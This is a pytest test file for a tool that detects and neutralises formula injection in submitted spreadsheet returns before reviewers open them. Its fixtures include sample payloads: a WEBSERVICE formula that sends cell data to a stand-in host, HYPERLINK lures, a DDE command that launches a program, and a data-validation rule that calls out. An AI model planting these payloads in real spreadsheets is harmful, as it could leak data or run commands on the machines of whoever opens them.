"""Formulas that act do not come alive on a reviewer's desk: found when a return is read, taken off when it is marked."""

from __future__ import annotations

import re

import pytest
from annotate_fixtures import PRESCHOOL, SHEET, SITES, as_ods, checked, good, marked, opened, state_of, wrong
from openpyxl.worksheet.datavalidation import DataValidation
from package_fixtures import OFFICE, parts_of, related, with_parts
from returns_fixtures import edited, put

from etl.annotate import annotate_anew
from etl.reading.live_formulas import begins_formula, reaches_out, starts_something

WEB, LINK = '=WEBSERVICE("http://10.0.0.9/?"&E7)', '=HYPERLINK("http://10.0.0.9/","请点击")'
PROGRAM = "=cmd|'/C calc'!A0"
OTHER_BOOK = "=[1]汇总!B3"


@pytest.mark.parametrize(
    "text",
    [WEB, LINK, PROGRAM, "  =1+1", "＝A1", "@SUM(1)", "＠A1", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "-1+HYPERLINK(1)"],
)
def test_what_a_spreadsheet_would_carry_out_begins_a_formula(text):
    assert begins_formula(text)


@pytest.mark.parametrize(
    "text",
    [
        "新建小区配套幼儿园8所",
        "-5所：撤并",
        "+3，新建3所",
        "-5所(民办)转为公办",
        "—",
        "- 已整改",
        "-3%",
        "a=b",
        "比去年 = 持平",
        "",
    ],
)
def test_words_are_words_whatever_sign_they_begin_with(text):
    assert not begins_formula(text)


@pytest.mark.parametrize(
    ("formula", "out", "starts"),
    [
        ('WEBSERVICE("http://x")', True, True),
        ('_xlfn.WEBSERVICE("http://x")', True, True),
        ('IF(1,hyperlink("http://x"),0)', True, True),
        ("cmd|'/C calc'!A0", True, True),
        ("[1]汇总!B3", True, False),
        ("'C:\\报表\\[汇总.xlsx]表1'!B3", True, False),
        ('_xlfn.DISPIMG("ID_1",1)', False, False),
        ('IF(COUNT(E7,E8)>0,SUM(E7,E8),IF(E7&E8="//","/",""))', False, False),
        ('"a|b WEBSERVICE("&A1', False, False),
        ("'甲|乙'!A1+1", False, False),
        ("SUM(表1[[#This Row],[数量]])", False, False),
    ],
)
def test_a_formula_reaches_out_by_what_it_calls_and_not_by_what_it_says(formula, out, starts):
    assert (reaches_out(formula), starts_something(formula)) == (out, starts)


# Read


@pytest.mark.parametrize("given", [WEB, LINK, PROGRAM, '="看"&"这里"'])
def test_a_formula_for_a_reason_blocks_whatever_it_shows(given):
    found = checked(wrong(put(PRESCHOOL, "F7", given)))
    assert "formula_in_text blocks!" in state_of(found, f"{PRESCHOOL}!F7")


def test_a_reason_that_only_reads_like_a_formula_blocks_too():
    def as_text(book):
        cell = book[PRESCHOOL]["F7"]
        cell.value, cell.data_type = WEB, "s"

    assert "formula_in_text blocks!" in state_of(checked(wrong(as_text)), f"{PRESCHOOL}!F7")


def test_a_reason_in_another_kind_of_file_is_seen_too():
    def as_text(book):
        cell = book[PRESCHOOL]["F7"]
        cell.value, cell.data_type = LINK, "s"

    found = checked(as_ods(wrong(as_text)), "报表.ods")
    assert any(finding.rule == "formula_in_text" for finding in found.findings)


def test_a_formula_typed_into_the_sheet_of_findings_blocks():
    def typed(book):
        sheet = book[SHEET]
        [row] = [cell.row for cell in sheet["C"] if cell.value == SITES]
        sheet.cell(row, 9).value = LINK

    found = checked(edited(marked(wrong()).content, typed))
    assert [f.rule for f in found.findings if f.at and f.at.sheet == SHEET] == ["formula_in_text"]


def test_a_figure_that_is_fetched_or_starts_a_program_blocks_and_one_that_is_added_up_does_not():
    rules = {
        given: {finding.rule for finding in checked(edited(good(), put(PRESCHOOL, "E7", given))).findings}
        for given in (WEB, PROGRAM, OTHER_BOOK, "=30+3")
    }
    assert {given: "formula_reaches_out" in told for given, told in rules.items()} == {
        WEB: True,
        PROGRAM: True,
        OTHER_BOOK: False,
        "=30+3": False,
    }


def test_a_picture_in_a_cell_for_words_is_no_formula_and_stays():
    """WPS keeps it as one; what is fetched from elsewhere is another matter."""
    picture = '=_xlfn.DISPIMG("ID_1",1)'
    book = wrong(put(PRESCHOOL, "F7", picture))
    assert not any(told.startswith("formula_") for told in state_of(checked(book), f"{PRESCHOOL}!F7"))
    assert opened(marked(book).content)[PRESCHOOL]["F7"].value == picture
    fetched = wrong(put(PRESCHOOL, "F7", '=_xlfn.IMAGE("http://10.0.0.9/")'))
    assert "formula_in_text blocks!" in state_of(checked(fetched), f"{PRESCHOOL}!F7")


def test_nothing_is_said_about_an_ordinary_return():
    assert not [f for f in checked(wrong()).findings if f.rule.startswith("formula_")]


# Marked


def hostile() -> bytes:
    """Every way in: a reason, a note beside the form, a shown text, a shared formula, a list, a name, a link."""

    def notes(book):
        sheet = book[PRESCHOOL]
        sheet["F7"], sheet["K30"], sheet["K31"] = WEB, LINK, PROGRAM
        sheet["K32"] = "=1+1"
        sheet["K33"].value, sheet["K33"].data_type = "=WEBSERVICE(1)", "s"
        sheet["K34"].hyperlink = "http://10.0.0.9/"
        rule = DataValidation(type="custom", formula1='WEBSERVICE("http://10.0.0.9/")="1"')
        rule.add("K35")
        sheet.add_data_validation(rule)

    def shown(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            data = re.sub(rb'(<c r="K30"[^>]*)>(<f>.*?</f>)<v ?/?>(</v>)?', rb'\1 t="str">\2<v>seen</v>', data)
        return data

    return with_parts(edited(wrong(), notes), {}, shown)


def test_the_marked_copy_holds_texts_where_formulas_reached_out():
    found = marked(hostile())
    assert not found.refilled and found.lost == ("links",)
    sheet = opened(found.content)[PRESCHOOL]
    for at, text in (("F7", WEB), ("K30", "seen"), ("K31", PROGRAM), ("K33", "=WEBSERVICE(1)")):
        assert (sheet[at].value, sheet[at].data_type) == (text, "s"), at
        assert sheet[at].quotePrefix == (at != "K30"), at
    assert (sheet["K32"].value, sheet["K32"].data_type) == ("=1+1", "f")
    parts = parts_of(found.content)
    assert b"10.0.0.9" not in b"".join(data for name, data in parts.items() if name.endswith(".rels"))
    assert not [rule for rule in sheet.data_validations.dataValidation if "WEBSERVICE" in str(rule.formula1)]
    assert not any(re.search(rb"<f[^>]*>[^<]*(WEBSERVICE|HYPERLINK|\|)", data) for data in parts.values())


def test_the_marked_copy_marked_again_is_the_same():
    first = marked(hostile())
    second = marked(first.content, first.file_name)
    sheets = [opened(found.content)[PRESCHOOL] for found in (first, second)]
    told = [{c.coordinate: (c.value, c.quotePrefix) for row in sheet for c in row} for sheet in sheets]
    assert second.lost == () and told[0] == told[1]


@pytest.mark.parametrize("kind", ["externalLink", "connections", "control"])
def test_a_workbook_with_parts_that_act_goes_back_as_our_template(kind):
    owner = "xl/worksheets/_rels/sheet1.xml.rels" if kind == "control" else "xl/_rels/workbook.xml.rels"
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'

    def change(name: str, data: bytes) -> bytes:
        if name != owner:
            return data
        return data.replace(b"</Relationships>", related(f"{OFFICE}/{kind}", "acting.xml", "rIdActing"))

    before = wrong()
    added = {} if owner in parts_of(before) else {owner: change(owner, rels)}
    found = marked(with_parts(before, {**added, "xl/acting.xml": b"<a/>"}, change))
    assert found.refilled and "xl/acting.xml" not in parts_of(found.content)


def test_what_is_made_for_a_reviewer_is_ours_and_holds_the_same_answers():
    found = marked(hostile(), mark=annotate_anew)
    assert found.refilled and found.file_name == "报表（核查结果）.xlsx"
    parts = b"".join(parts_of(found.content).values())
    assert b"10.0.0.9" not in b"".join(re.findall(rb"<f[^>]*>.*?</f>", parts)) and b"<hyperlink r:id" not in parts
    again = checked(found.content, found.file_name)
    assert {slot: e.value for slot, e in again.ret.entries.items()} == {
        slot: e.value for slot, e in checked(hostile()).ret.entries.items()
    }
    assert "重新生成" in opened(found.content)[SHEET]["A5"].value
